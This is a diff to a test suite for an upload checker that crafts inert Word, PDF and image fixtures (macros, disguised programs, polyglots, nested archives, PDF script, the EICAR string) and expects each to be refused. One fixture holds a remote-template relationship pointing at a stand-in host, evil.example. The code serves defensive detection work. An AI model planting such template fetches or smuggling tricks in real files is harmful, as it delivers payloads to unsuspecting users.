@@ -11,11 +11,18 @@ const PNG = Uint8Array.from(
 const TEST_SIGNATURE = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
 
 /** The smallest container that counts as a Word file. */
-function docx(more: Zippable = {}): Uint8Array {
-  const types =
-    '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+function docx(more: Zippable = {}, type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'): Uint8Array {
+  const types = `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`
   return zipSync({ '[Content_Types].xml': strToU8(types), 'word/document.xml': strToU8('<document/>'), ...more })
 }
+
+/** An old compound file with a directory entry of this name. */
+function compound(name: string): Uint8Array {
+  return Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512), Buffer.from(name, 'utf16le')])
+}
+
+const FETCHED =
+  '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
 
 describe('an uploaded file', () => {
   it('is what its bytes say it is', async () => {
@@ -45,13 +52,52 @@ describe('an uploaded file', () => {
     ['nothing at all', new Uint8Array(), 'a.pdf', 'damaged_file'],
     ['half a Word file', docx().subarray(0, 60), 'a.docx', 'damaged_file'],
     ['a plain archive', zipSync({ 'a.png': PNG }), 'a.zip', 'unsupported_file'],
-    ['a Word file with macros', docx({ 'word/vbaProject.bin': strToU8('x') }), 'a.docx', 'unsafe_file'],
-    ['a Word file with a program inside', docx({ 'word/embeddings/a.exe': strToU8('x') }), 'a.docx', 'unsafe_file'],
+    ['a Word file with macros', docx({ 'word/vbaProject.bin': strToU8('x') }), 'a.docx', 'active_content'],
+    ['a Word file with macros under another name', docx({ 'word/media/a.bin': compound('_VBA_PROJECT') }), 'a.docx', 'active_content'],
+    ['a Word file that announces macros', docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'a.docx', 'active_content'],
+    ['a Word file with a program inside', docx({ 'word/embeddings/a.exe': strToU8('x') }), 'a.docx', 'active_content'],
+    ['a Word file with a program called picture', docx({ 'word/media/a.png': strToU8('MZ\0') }), 'a.docx', 'active_content'],
+    [
+      'a Word file with a packed program',
+      docx({ 'word/embeddings/oleObject1.bin': compound('\u0001Ole10Native') }),
+      'a.docx',
+      'active_content',
+    ],
+    ['a Word file that fetches its template', docx({ 'word/_rels/settings.xml.rels': strToU8(FETCHED) }), 'a.docx', 'active_content'],
+    [
+      'a workbook with macros inside a Word file',
+      docx({ 'word/embeddings/a.xlsx': docx({ 'xl/vbaProject.bin': strToU8('x') }) }),
+      'a.docx',
+      'active_content',
+    ],
+    [
+      'the test signature in a workbook in a Word file',
+      docx({ 'word/embeddings/a.bin': docx({ b: strToU8(TEST_SIGNATURE) }) }),
+      'a.docx',
+      'unsafe_file',
+    ],
+    ['archives in archives in archives', docx({ a: docx({ b: docx() }) }), 'a.docx', 'unsafe_file'],
+    ['a PDF with script', strToU8('%PDF-1.7\n<</S/JavaScript/JS(x)>>\n%%EOF'), 'a.pdf', 'active_content'],
+    ['a PDF with a password', strToU8('%PDF-1.7\ntrailer<</Encrypt 1 0 R>>\n%%EOF'), 'a.pdf', 'locked_file'],
+    ['a picture that is also an archive', Buffer.concat([PNG, docx()]), 'a.png', 'unsafe_file'],
+    ['a picture that is also a PDF', Buffer.concat([PNG, PDF]), 'a.png', 'unsafe_file'],
+    ['a PDF that is also an archive', Buffer.concat([PDF, docx()]), 'a.pdf', 'unsafe_file'],
+    ['a Word file with something behind it', Buffer.concat([docx(), strToU8('<script>')]), 'a.docx', 'unsafe_file'],
     ["the scanners' test signature called PDF", strToU8(TEST_SIGNATURE), 'a.pdf', 'unsafe_file'],
     ['the test signature behind a PDF head', strToU8(`%PDF-1.7\n${TEST_SIGNATURE}`), 'a.pdf', 'unsafe_file'],
     ['the test signature compressed inside a Word file', docx({ 'word/media/a.bin': strToU8(TEST_SIGNATURE) }), 'a.docx', 'unsafe_file'],
   ])('refuses %s', async (_, bytes, name, refusal) => {
     expect(await checkEvidenceFile(bytes, name)).toEqual({ ok: false, refusal })
+  })
+
+  it('may carry a workbook behind a chart, a formula of an old kind, and links to pages', async () => {
+    const link = FETCHED.replace('attachedTemplate', 'hyperlink')
+    const parts = {
+      'word/embeddings/a.xlsx': docx(),
+      'word/embeddings/oleObject1.bin': compound('Equation Native'),
+      'word/_rels/a.rels': strToU8(link),
+    }
+    expect(await checkEvidenceFile(docx(parts), 'a.docx')).toMatchObject({ ok: true })
   })
 
   it('is refused when it unfolds to hundreds of megabytes', async () => {
